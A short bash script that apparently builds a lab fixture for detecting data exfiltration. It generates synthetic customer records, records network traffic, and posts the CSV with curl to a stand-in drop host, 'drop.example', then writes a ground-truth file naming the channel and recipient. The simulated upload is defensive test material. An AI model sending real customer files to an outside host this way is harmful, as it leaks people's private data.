#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record the upload that scripts/demo reads.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 187 seed=demo >"$LAB/customers.csv"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 \
    -F "file=@$LAB/customers.csv;type=text/csv" http://drop.example/upload
lab_stop
table csv accounts 600 seed=demo >"$here/customers.csv"
table truth accounts 187 seed=demo channel=http party=drop.example \
    >"$here/truth.json"
